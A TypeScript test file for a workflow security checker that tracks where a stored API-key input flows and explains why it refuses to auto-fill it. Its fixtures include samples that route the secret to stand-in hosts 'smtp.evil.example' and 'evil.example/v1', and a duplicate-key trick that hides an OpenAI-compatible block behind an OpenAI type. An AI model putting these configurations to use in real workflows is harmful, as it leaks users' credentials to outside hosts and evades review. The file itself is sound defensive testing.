// Which stored credential may fill a secret input (issue 8 item 4): one stored for a provider goes
// only into that provider's credential fields, never into a sink, an output, custom Python or
// another provider's block because an input happens to share its name.
import assert from 'node:assert/strict';
import { analyzeWorkflowSecurity } from '../../src/core/analysis/analyze';
import { bundledCatalog } from '../../src/core/catalog/bundled';
import { credentialRoute, typedReason } from '../../src/core/preview/credentialRoute';
import { previewForm } from '../../src/core/preview/form';
import { lintWorkflow } from '../../src/core/lint';

const catalog = bundledCatalog();
const SECRET = { type: 'WorkflowParameter', name: 'openai_key', kind: ['secret'] };

const openai = (name = 'gpt', key = '$inputs.openai_key') => ({ type: 'roboflow_core/open_ai@v2', name, images: '$inputs.image', task_type: 'unconstrained', prompt: 'hi', api_key: key });
const claude = (name = 'claude') => ({ type: 'roboflow_core/anthropic_claude@v2', name, images: '$inputs.image', task_type: 'unconstrained', prompt: 'hi', api_key: '$inputs.openai_key' });
const webhook = (headers: Record<string, string>, name = 'notify') => ({ type: 'roboflow_core/webhook_sink@v1', name, url: 'https://hooks.example/x', method: 'POST', headers });

/** `steps` may hold what is not a step object (a string, say): the panel must still name it. */
function analysis(steps: unknown[], outputs: object[] = [], extra: object = {}) {
  const text = JSON.stringify({ version: '1.0', inputs: [{ type: 'WorkflowImage', name: 'image' }, SECRET], steps, outputs, ...extra }, null, 2);
  return analyzeWorkflowSecurity(text, catalog);
}

function route(steps: unknown[], outputs: object[] = [], extra: object = {}) {
  return credentialRoute(analysis(steps, outputs, extra), 'openai_key');
}

/** The sentence the panel shows when an OpenAI credential `openai_key` is stored. */
function reasonWithOpenAiStored(steps: object[], outputs: object[] = [], extra: object = {}): string | undefined {
  const r = route(steps, outputs, extra);
  return r.typed && typedReason(r.typed, ['OpenAI']);
}

describe('preview credentials: a stored credential goes only to its provider', () => {
  it('fills an input read only by credential fields of one provider, in one or several steps', () => {
    assert.equal(route([openai()]).provider?.id, 'openai');
    assert.equal(route([openai('a'), openai('b')]).provider?.id, 'openai');
    assert.equal(route([openai()], [], {}).typed, undefined);
  });

  it('types an input that feeds a webhook sink, whatever its name, and says why', () => {
    // The example: `openai_key` (kind secret) fed to a webhook header.
    assert.equal(reasonWithOpenAiStored([webhook({ Authorization: '$inputs.openai_key' })]), 'it feeds a Webhook Sink (step `notify`, `headers.Authorization`), not an OpenAI credential field');
    assert.equal(reasonWithOpenAiStored([webhook({ 'X-Data': '$inputs.openai_key' })]), 'it feeds a Webhook Sink (step `notify`, `headers.X-Data`), not an OpenAI credential field');
    // Nothing stored under the name: the sentence names no provider.
    const r = route([webhook({ Authorization: '$inputs.openai_key' })]);
    assert.equal(typedReason(r.typed!), "it feeds a Webhook Sink (step `notify`, `headers.Authorization`), not a provider's own credential field");
  });

  it('types an input that feeds a credential field and anything else', () => {
    assert.equal(reasonWithOpenAiStored([openai(), webhook({ Authorization: '$inputs.openai_key' })]), 'it feeds a Webhook Sink (step `notify`, `headers.Authorization`), not an OpenAI credential field');
    assert.equal(
      reasonWithOpenAiStored([openai()], [{ type: 'JsonField', name: 'echo', selector: '$inputs.openai_key' }]),
      'it feeds output `echo` (returned in the response), not an OpenAI credential field',
    );
    assert.equal(
      reasonWithOpenAiStored([openai(), { ...openai('prompted', 'sk-literal-not-a-ref'), prompt: '$inputs.openai_key' }]),
      'it feeds an OpenAI (step `prompted`, `prompt`), not an OpenAI credential field',
    );
  });

  it('types an input that feeds the credential fields of two providers', () => {
    const r = route([openai(), claude()]);
    assert.equal(r.provider, undefined);
    assert.equal(typedReason(r.typed!, ['OpenAI']), 'it feeds the credential fields of OpenAI (`gpt`) and Anthropic (`claude`), and a stored credential goes to one provider only');
  });

  it('types an input whose block sends it to an address the workflow chooses', () => {
    const email = { type: 'roboflow_core/email_notification@v2', name: 'mail', subject: 's', receiver_email: 'a@b.c', message: 'm', email_provider: 'Custom SMTP', sender_email: 'x@y.z', smtp_server: 'smtp.evil.example', sender_email_password: '$inputs.openai_key' };
    assert.equal(reasonWithOpenAiStored([email]), 'it feeds an Email Notification (step `mail`, `sender_email_password`), not an OpenAI credential field');
    const compatible = { type: 'roboflow_core/openai_compatible@v1', name: 'llm', base_url: 'https://evil.example/v1', model_name: 'm', prompt: 'p', api_key: '$inputs.openai_key' };
    assert.equal(reasonWithOpenAiStored([compatible]), 'it feeds an OpenAI-Compatible LLM (step `llm`, `api_key`), not an OpenAI credential field');
  });

  it('types an input read by custom Python, or by nothing', () => {
    const extra = {
      dynamic_blocks_definitions: [{ type: 'DynamicBlockDefinition', manifest: { type: 'ManifestDescription', block_type: 'MyBlock', inputs: {}, outputs: {} }, code: { type: 'PythonCode', run_function_code: '' } }],
    };
    assert.equal(reasonWithOpenAiStored([openai(), { type: 'MyBlock', name: 'py', key: '$inputs.openai_key' }], [], extra), 'it feeds custom Python (step `py`, `key`), not an OpenAI credential field');
    const unused = route([]);
    assert.deepEqual(unused, { typed: { kind: 'unused' } });
    assert.equal(typedReason(unused.typed!), "no step reads it as a provider's credential");
  });

  it('types every input of a workflow with a key written twice (the server reads the last copy)', () => {
    // Read first-wins, this step is OpenAI; the server reads the last `type`, an OpenAI-compatible
    // block that sends api_key to a base URL the workflow chose.
    const text = `{"version": "1.0", "inputs": [{"type": "WorkflowImage", "name": "image"}, ${JSON.stringify(SECRET)}],
      "steps": [{"type": "roboflow_core/open_ai@v2", "name": "gpt", "images": "$inputs.image", "task_type": "unconstrained", "prompt": "hi",
        "api_key": "$inputs.openai_key", "type": "roboflow_core/openai_compatible@v1", "base_url": "https://evil.example/v1", "model_name": "m"}],
      "outputs": []}`;
    const security = analyzeWorkflowSecurity(text, catalog);
    assert.equal(security.credentials.uses.find((u) => u.inputName === 'openai_key')?.provider.id, 'openai', 'the analysis reads the first type');
    const r = credentialRoute(security, 'openai_key');
    assert.equal(r.provider, undefined);
    assert.equal(typedReason(r.typed!), 'the workflow writes `type` in step `gpt` more than once, and the server reads a different copy than this check');
    const finding = lintWorkflow(text, catalog).findings.find((f) => f.code === 'duplicate-key');
    assert.equal(finding?.severity, 'warning');
    assert.equal(text.slice(finding!.range.offset, finding!.range.offset + finding!.range.length), '"type"');
    assert.ok(finding!.range.offset < text.lastIndexOf('"type"'), 'on the copy the server ignores');
  });

  it('puts the route in the preview form, with the provider people read', () => {
    const form = previewForm(analysis([webhook({ Authorization: '$inputs.openai_key' })]));
    assert.deepEqual(
      form.credentials.map((c) => [c.name, c.provider, c.steps, c.route.provider?.id, c.route.typed?.kind]),
      [['openai_key', 'Webhook', ['notify'], undefined, 'feeds']],
    );
    const fillable = previewForm(analysis([openai()]));
    assert.deepEqual(
      fillable.credentials.map((c) => [c.name, c.provider, c.route.provider?.id]),
      [['openai_key', 'OpenAI', 'openai']],
    );
  });
});

describe('preview credentials: references and how the panel names them', () => {
  const gemini = (name = 'gemini') => ({ type: 'roboflow_core/google_gemini@v1', name, images: '$inputs.image', task_type: 'unconstrained', prompt: 'hi', api_key: '$inputs.openai_key' });

  /** The sentence the panel shows when nothing is stored under the input's name. */
  function reason(steps: unknown[], outputs: object[] = [], extra: object = {}): string {
    const r = route(steps, outputs, extra);
    return r.typed ? typedReason(r.typed) : `filled from ${r.provider.id}`;
  }

  it('counts only `$inputs.<name>` itself as a reference, not longer selectors or other selectors ending in the name', () => {
    const outputs = [
      { type: 'JsonField', name: 'step_output', selector: '$steps.openai_key' },
      { type: 'JsonField', name: 'deeper', selector: '$inputs.openai_key.value' },
      { type: 'JsonField', name: 'other_input', selector: '$inputs.openai_key_2' },
    ];
    assert.equal(reason([openai()], outputs), 'filled from openai');
  });

  it('skips the declarations in `inputs`, but not a step property that happens to be called `inputs`', () => {
    assert.equal(reason([openai()], [], { inputs: [{ type: 'WorkflowImage', name: 'image' }, SECRET, { type: 'WorkflowParameter', name: 'fallback', default_value: '$inputs.openai_key' }] }), 'filled from openai');
    assert.equal(
      reason([openai(), { type: 'acme/mystery_block@v1', name: 'mystery', inputs: { key: '$inputs.openai_key' } }]),
      "it feeds a step of unknown type `acme/mystery_block@v1` (step `mystery`, `inputs.key`), not a provider's own credential field",
    );
  });

  it('names steps without a type, steps that are not objects, unnamed outputs and other places', () => {
    assert.equal(reason([openai(), { name: 'typeless', key: '$inputs.openai_key' }]), "it feeds a step of unknown type `?` (step `typeless`, `key`), not a provider's own credential field");
    assert.equal(reason([openai(), '$inputs.openai_key']), "it feeds a step of unknown type `?` (step `#2`), not a provider's own credential field");
    assert.equal(reason([openai()], [{ type: 'JsonField', selector: '$inputs.openai_key' }]), "it feeds output `#1` (returned in the response), not a provider's own credential field");
    assert.equal(
      reason([openai()], [{ type: 'JsonField', name: 'echo', selector: '$steps.gpt.output' }], { notes: ['$inputs.openai_key'] }),
      "it feeds `notes.0`, not a provider's own credential field",
    );
  });

  it('lists three providers as "A, B and C", each with its steps', () => {
    assert.equal(
      reason([openai('a'), openai('b'), claude(), gemini()]),
      'it feeds the credential fields of OpenAI (`a`, `b`), Anthropic (`claude`) and Google Gemini (`gemini`), and a stored credential goes to one provider only',
    );
  });

  it('lists a step once when it reads the input in two credential fields', () => {
    const sms = { type: 'roboflow_core/twilio_sms_notification@v2', name: 'sms', receiver_number: '+15550100', message: 'm', sms_provider: 'Custom Twilio', twilio_account_sid: '$inputs.openai_key', twilio_auth_token: '$inputs.openai_key' };
    assert.equal(reason([sms, claude()]), 'it feeds the credential fields of Twilio (`sms`) and Anthropic (`claude`), and a stored credential goes to one provider only');
  });

  it('says where a key is written twice outside the steps, and ignores keys written twice in an input declaration', () => {
    const doc = (inputs: string, outputs: string, top = '') =>
      `{"version": "1.0",${top} "inputs": [{"type": "WorkflowImage", "name": "image"}, ${inputs}],
        "steps": [${JSON.stringify(openai())}], "outputs": [${outputs}]}`;
    const secret = JSON.stringify(SECRET);
    const output = '{"type": "JsonField", "name": "echo", "selector": "$steps.gpt.output"}';
    const routeOf = (text: string) => credentialRoute(analyzeWorkflowSecurity(text, catalog), 'openai_key');

    // The analysis and the server agree on the input's name; a second `kind` changes nothing here.
    const twiceInInput = routeOf(doc('{"type": "WorkflowParameter", "name": "openai_key", "kind": ["string"], "kind": ["secret"]}', output));
    assert.equal(twiceInInput.provider?.id, 'openai');

    const twiceInOutput = routeOf(doc(secret, '{"type": "JsonField", "name": "echo", "name": "echo2", "selector": "$steps.gpt.output"}'));
    assert.deepEqual(twiceInOutput, { typed: { kind: 'ambiguous', what: '`name` in `outputs.0`' } });
    assert.equal(typedReason(twiceInOutput.typed!), 'the workflow writes `name` in `outputs.0` more than once, and the server reads a different copy than this check');

    const twiceAtTop = routeOf(doc(secret, output, ' "version": "1.1",'));
    assert.equal(typedReason(twiceAtTop.typed!), 'the workflow writes `version` in the definition more than once, and the server reads a different copy than this check');
  });
});
